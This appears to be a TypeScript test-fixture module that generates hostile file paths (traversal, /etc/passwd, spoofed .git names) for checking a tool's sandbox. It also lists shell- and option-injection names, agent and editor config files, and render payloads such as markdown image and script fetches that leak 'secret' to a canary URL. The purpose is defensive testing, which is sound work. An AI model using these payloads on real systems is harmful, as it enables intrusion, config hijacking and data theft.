/**
 * Names that lead where no name may lead, made from parts: up, out, through links, into a repository's own data, and in all the
 * spellings in which some file system takes them for the same.
 */
import { join } from "node:path";
import { chanceOf } from "../session/chance.ts";

/** Paths that no tool may touch, given where the draft and its outside are. The same for the same seed. */
export function hostileNames(place: { root: string; outside: string }, count: number, seed: number): string[] {
  const chance = chanceOf(seed);
  const pick = <T>(items: readonly T[]): T => chance.of(items);
  const fixed = [
    "..",
    "../project-evil/secret.txt",
    "src/../../project-evil/secret.txt",
    "..\\project-evil\\secret.txt",
    "linked/secret.txt",
    "linked/new/deep.txt",
    "dangling",
    "dangling/x",
    "planted/secret.txt",
    "leaf",
    "/etc/passwd",
    "/proc/self/environ",
    "",
    "a\0b",
    place.root,
    place.outside,
    join(place.outside, "secret.txt"),
    `${place.root}-evil/secret.txt`,
    `${place.root}/../project-evil/secret.txt`,
    `//${place.outside}/secret.txt/..`,
    "x".repeat(5000),
  ];
  const repository = [
    ".git",
    ".GIT",
    ".gIt",
    ".git.",
    ".git ",
    ".git. .",
    "git~1",
    "GIT~1",
    ".g\u200cit",
    ".git\ufeff",
  ];
  const more = [".git::$INDEX_ALLOCATION", "\uff0egit", ".Git:x", ".gi\u200dt", "\u202e.git"];
  const below = ["", "/config", "/hooks/post-checkout", "/info/attributes", "/HEAD", "/objects/info/alternates"];
  const before = ["", "src/", "src/deep/", "a/b/c/"];
  const up = ["../", "src/../../", "./../", "src/./../../", "..//", "....//../"];
  const out = ["project-evil/secret.txt", "project-evil", "project-evil/new.txt", "../etc/passwd"];
  const links = ["linked", "planted", "leaf", "dangling", "linked/."];
  const made: (() => string)[] = [
    () => pick(before) + pick([...repository, ...more]) + pick(below),
    () => pick(before) + pick(up) + pick(out),
    () => pick(up) + pick(up) + pick(out),
    () => `${pick(links)}/${pick(["", "x", "secret.txt", "a/b", "../x"])}`,
    () => `${place.root}/${pick(up)}${pick(out)}`,
    () => pick(["~", "$HOME", "%USERPROFILE%", "C:", "\\\\?\\C:"]) + pick(["/../", "/../../"]) + pick(out),
    () => `${pick(before)}${pick(repository)}\0${pick(below)}`,
  ];
  const names = new Set<string>(fixed);
  while (names.size < count) names.add(pick(made)());
  return [...names].slice(0, count);
}

/** Names that are odd and allowed: files like others, whatever a program without care would take them for. */
export const oddNames: readonly string[] = [
  "--upload-pack=x",
  "-rf",
  "--",
  ":(exclude)a.txt",
  ":",
  "$(touch x)",
  "`id`",
  "a;b|c&d",
  "two\nlines.txt",
  "tab\there",
  "'quoted\"",
  "*.glob",
  "#comment",
  "!not",
  "%2e%2e%2fx",
  "<img src=x onerror=alert(1)>",
  "\u202etxt.exe",
  "p\u0430ckage.txt",
  "__proto__",
  "constructor",
  "\u001b[2J",
  "...",
  "con",
];

/** Files that an editor, git, an agent, a shell or a build runs or obeys: in no bulk accept. */
export const obeyed: readonly string[] = [
  ".vscode/tasks.json",
  "sub/.VSCode/launch.json",
  ".vscode./settings.json",
  ".cUrSoR/mcp.json",
  ".mcp.json",
  "sub/.Claude/settings.local.json",
  ".gitattributes",
  ".gitmodules",
  ".husky/pre-commit",
  ".github/workflows/x.yml",
  "CLAUDE.md",
  ".npmrc",
  ".envrc",
  "x.code-workspace",
  "eslint.config.js",
  ".bashrc",
];

/** Texts that deceive whoever reads them drawn as they came, or make a renderer act. */
export const deceitsWith = (canaryUrl: string): string[] => [
  "\u001b[2J\u001b]0;title\u0007\u001b]52;c;ZXZpbA==\u0007",
  `\u001b]8;;${canaryUrl}\u0007click\u001b]8;;\u0007`,
  `![x](${canaryUrl}/?q=secret) [y](command:workbench.action.terminal.new) <img src="${canaryUrl}/i">`,
  `<script>fetch("${canaryUrl}")</script><style>@import "${canaryUrl}"</style>`,
  "if (admin\u202e \u2066// check\u2069\u2066) {",
  "ad\u200bmin \u{e0041}\u{e0042}",
  "p\u0430ssword",
];
